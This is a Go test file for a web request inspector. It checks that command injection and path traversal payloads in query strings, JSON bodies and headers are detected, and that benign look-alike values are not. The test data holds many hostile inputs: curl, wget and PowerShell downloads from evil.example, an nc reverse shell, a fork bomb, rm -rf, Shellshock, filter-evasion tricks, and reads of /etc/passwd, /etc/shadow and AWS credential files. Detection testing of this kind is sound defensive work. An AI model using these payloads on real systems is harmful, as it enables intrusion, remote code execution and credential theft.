package detect

import (
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

// queryValue is a GET request with value as the "v" query parameter.
func queryValue(value string) *Request {
	return get("v=" + url.QueryEscape(value))
}

func hasClass(fs []Finding, class string) (Finding, bool) {
	for _, f := range fs {
		if f.Class == class {
			return f, true
		}
	}
	return Finding{}, false
}

// TestCmdiEvasions holds one or more examples per shell, cmd.exe and
// PowerShell technique an injected command uses to run or to hide.
func TestCmdiEvasions(t *testing.T) {
	p := defaultProfile(t, Policy{})
	tests := []struct {
		technique string
		values    []string
	}{
		{"separator and tool", []string{"127.0.0.1; cat /etc/passwd", "x|id", "x && whoami", "x || uname -a", "a\nwget http://evil.example/x"}},
		{"separator opening the value", []string{";ps", "|env", "; set", "&aptitude"}},
		{"newer tool names after a separator", []string{"time; ansible all -m ping", ";rmt-tar", ";ssh-copy-id user@server", ";regedit /E c:\\x.reg HKEY_CURRENT_USER\\Key"}},
		{"common word with a flag or credential file", []string{";date -f secrets.txt", "cd /;cd etc;fold passwd", ";top -b -n 1", ";at 2:00 \"echo test\""}},
		{"command substitution", []string{"$(whoami)", "`id`", "x$(curl evil.example)"}},
		{"arithmetic and empty substitution", []string{"$[2+2]", "$[]", "$((7*7))", "$(($() 42))"}},
		{"process substitution", []string{"<(cat file)", ">(tee log)", "diff <(ls /a) <(ls /b)"}},
		{"parameter expansion operators", []string{"${x#{}}", "${PATH#{}/}", "${PATH%%:*}", "$SHELL -c \"echo hi\"", "${SHELL} -c id"}},
		{"IFS as whitespace", []string{";cat${IFS}/etc/passwd", "cat$IFS/etc/passwd"}},
		{"brace expansion", []string{"{cat,/etc/passwd}", "c{a,oun}t", "{,ifconfig}", "{id,}", "{l,-lh}s", "{,cd,/etc,}"}},
		{"quote and escape obfuscation", []string{";w'h'o'am'i", "c\"a\"t /etc/passwd", ";c\\at /etc/passwd", "\"\"p\"\"y\"\"t\"\"h\"\"o\"\"n\"\"3\"\".\"\"1\"\"0\"\" \"\"c\"\"m\"\"d\"\""}},
		{"empty expansions inside a word", []string{"host;c$@at /et$@c/pas$@swd", "x;c$*at /etc/passwd", "cu$@rl evil.example", "una$$me -a", "c${KK}url evil.example", "x;cat$u /etc$u/passwd", "a; sh$XX -c whoami"}},
		{"empty substitutions inside a word", []string{"ping`` 127.0.0.1", "pi$()ng 127.0.0.1", "pi<()ng 127.0.0.1"}},
		{"glob-obfuscated program and file paths", []string{"/???/??t /???/p??s??", "/bi[n]/bash", "/usr/bin/[u]name -a", "/usr/[a-z]in/bash", "cat /et*/*wd", ";/bin/ca? /et*/passwd", "; cat /e't'*/pa'?s'wd"}},
		{"variable assigned then run", []string{"a=nc&&$a -nlvp 555", "a=/etc&&b=/passwd&&c=cat&&$c $a$b", "garb=adduse[r];$garb pizza"}},
		{"launchers", []string{"time who", "nohup ifconfig", "strace ifconfig", "sudo rm -rf /"}},
		{"value that is a command line", []string{"cat /etc/passwd", "curl https://evil.example/x.sh", "wget http://evil.example/a", "env --version", "python3.10 cmd", "ansible-playbook site.yml", "visudo", "netsh firewall set opmode disable", "reg add \"HKLM\\System\\X\" /v y /t REG_DWORD /d 0 /f", "/bin/ab", "bin/visudo"}},
		{"here-string", []string{"gcc<<<'void main(){}'", "irb<<<1", ";`cat<<<$(ifconfig)`"}},
		{"shell function and Shellshock", []string{"() { :;}; echo vulnerable", "() {", ":(){ :|:& };:", "f(){ f|f& };f", "test() { test | test & } test"}},
		{"alias", []string{"alias a=b", "alias 'letter'=curl&letter evil.example", "alias -p x=id"}},
		{"tilde and history expansion", []string{"~+", "~-1", "!-1!-2"}},
		{"editor, debugger and compiler escapes", []string{";vim -c:!pwd", ";gdb -nx -ex '!whoami' -ex quit", ";c89 -wrapper sh,-c,id .", "find /etc -name passwd -exec cat {} ;"}},
		{"sqlite dot commands", []string{"1;.shell whoami", ";\n.system nc 10.0.0.1 6666 -e sh"}},
		{"redirection into a system directory", []string{">/tmp/x", "echo x >> /var/www/shell.php"}},
		{"cmd.exe IF and FOR", []string{"IF EXIST C:\\pagefile.sys CMD", "if not defined n1 set \"n1=0\"", "IF \"%~1\"==\"/?\" ...", "if /i a==b foo", "IF ERRORLEVEL 3 echo x", "for /f %i in ('whoami') do echo %i"}},
		{"cmd.exe variables and carets", []string{"%comspec% /c dir", "w^h^o^a^m^i", "&& net user"}},
		{"PowerShell", []string{"Invoke-WebRequest http://evil.example/x.ps1", ";iwr http://evil.example/x.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://x')", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A", ";iwmi -class Win32_process -name Create"}},
		{"mail commands after a line break", []string{"\r\nMAIL FROM:<a@b.example>", "x\nRCPT TO:<postmaster>", "\nEHLO evil.example", "\na001 authenticate PLAIN"}},
	}
	for _, tt := range tests {
		for _, v := range tt.values {
			fs := p.Inspect(queryValue(v), nil)
			_, ok := hasClass(fs, ClassCmdi)
			assert.True(t, ok, "%s: %q not detected as cmdi (findings %v)", tt.technique, v, fs)
		}
	}
	// The same payloads in a JSON body and a header.
	for _, v := range []string{"; cat /etc/passwd", "{cat,/etc/passwd}", "/???/??t /???/p??s??", "cu$@rl evil.example"} {
		fs := p.Inspect(jsonPost(`{"host":`+jsonQuote(v)+`}`), nil)
		_, ok := hasClass(fs, ClassCmdi)
		assert.True(t, ok, "JSON %q", v)
		fs = p.Inspect(withHeader("User-Agent", v), nil)
		_, ok = hasClass(fs, ClassCmdi)
		assert.True(t, ok, "header %q", v)
	}
}

func jsonQuote(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`, "\r", `\r`)
	return `"` + r.Replace(s) + `"`
}

// TestTraversalEvasions holds path traversal and local file inclusion forms.
func TestTraversalEvasions(t *testing.T) {
	p := defaultProfile(t, Policy{})
	for _, v := range []string{
		"../../etc/passwd", "..\\..\\windows\\win.ini", "..%c0%afetc/passwd", "....//....//etc/passwd",
		"..\\pineapple", "..;/..;/x", "0x5c0x2e./", "/proc/self/environ", "/proc/interrupts",
		"/sys/class/net", "c:\\boot.ini", "php://filter/resource=index.php", "/path/to/.docker/config.json",
		"~/.aws/credentials", "file:///etc/shadow", "wp-config.php.bak",
	} {
		fs := p.Inspect(queryValue(v), nil)
		_, ok := hasClass(fs, ClassTraversal)
		assert.True(t, ok, "%q not detected as traversal (findings %v)", v, fs)
	}
	for _, path := range []string{"/files/..%2f..%2fetc/passwd", "/get/proc/interrupts", "/backup.sql.zip", "/wp-content/debug.log"} {
		r := get("")
		r.Path = path
		fs := p.Inspect(r, nil)
		_, ok := hasClass(fs, ClassTraversal)
		assert.True(t, ok, "path %q not detected as traversal (findings %v)", path, fs)
	}
}

// TestCmdiBenignLookalikes holds values an API carries that look a little
// like shell or file syntax and must stay quiet.
func TestCmdiBenignLookalikes(t *testing.T) {
	p := defaultProfile(t, Policy{})
	for _, v := range []string{
		"select a plan", "rock & roll", "Q&A; notes", "Ham & Cheese; No Mayo", "Tom & Jerry", "Black & Decker",
		"AT&T", "b&w", "salt & pepper; more", "copy & paste", "cut & paste", "Cat6 & Cat5 cables",
		"my cat sleeps all day", "cat food", "ls engine swap", "python tutorial", "python 3.11 release notes",
		"php 8 features", "curl hair", "tar heels", "NC State", "top 10 gifts", "date night ideas",
		"find a store", "echo dot", "ping pong table", "sleep mask", "time & date", "who we are",
		"report.pdf", "IMG_2024.jpg", "notes.txt", "my-file (1).docx", "C:\\Users\\Ana\\Documents\\cv.docx",
		"https://example.com/a;b=c?x=1&y=2", "https://example.com/search?q=cat", "/api/v1/users/42",
		"sort=-created_at", "filter[status]=shipped", "{red,blue}", "{id,name}", "{\"a\":1,\"b\":2}",
		"Price went from $49.99 -> $39.99", "best laptop < $1000", "If x < 5 and y > 3 the gauge reads wrong",
		"if statement excel", "If not defined, the default is used.", "see the docs/*.md files", "src/**/*.ts",
		"*/5 * * * *", "what??? why?", "I <3 this (really)", "wait...", "~5 minutes", "Great!!! 10/10",
		"use `code` here", "mutation AddToCart($input: AddToCartInput!) { addToCart(input: $input) { id } }",
		"function () { return 1 }", "() => { run() }", "if (a == b) { x() }", "if a == b: pass",
		"Set up your account", "Get-started guide", "alias: Bobby", "The chef's special", "aa batteries",
		"pip install issue", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
		"curl/8.4.0", "python-requests/2.31.0", "Wget/1.21.4", "Go-http-client/1.1",
		"powershell tutorial", "nmap scan results explained", "IRM (information rights management)",
		"IEX (Investors Exchange) listing", "action=downloadFile", "price >(see below)", "a <(b) c",
		"Q1 status update\nQ2 list of goals", "Hello\nhelo there", "wow!-1", "if exist any problem call me",
		"If defined, set it to 0", "if x == 1: return", "{w,h}", "{date,time}", "img{1,2}.png", "/bin/*",
		"Dear Sir,\nthe cat sat on the mat.\nRegards", "docs/*.md; see more", "x = {a,b}; y = 2",
		"The /etc directory holds configuration", "Dear team,\nplease find the report.\nThanks",
		"id: 42", "id 12345", "ID user@example.com", "...", "../", "../config.yml",
	} {
		fs := p.Inspect(queryValue(v), nil)
		if f, ok := hasClass(fs, ClassCmdi); ok {
			t.Errorf("benign %q flagged as cmdi by %s (%q)", v, f.RuleID, f.Fragment)
		}
		if f, ok := hasClass(fs, ClassTraversal); ok {
			t.Errorf("benign %q flagged as traversal by %s (%q)", v, f.RuleID, f.Fragment)
		}
	}
}

// TestCmdiCorpusHasNoFalsePositives: no benign corpus record is flagged by
// a command-injection or traversal rule (bench-detect -misses lists the
// misses for rule work).
func TestCmdiCorpusHasNoFalsePositives(t *testing.T) {
	p := defaultProfile(t, Policy{})
	for _, file := range []string{"benign_synthetic.jsonl", "benign_libinjection_fp.jsonl"} {
		st := measureCorpus(t, p, file)
		for _, fp := range st.fps {
			if strings.Contains(fp, " cmdi-") || strings.Contains(fp, " traversal-") {
				t.Errorf("%s: false positive %s", file, fp)
			}
		}
	}
}
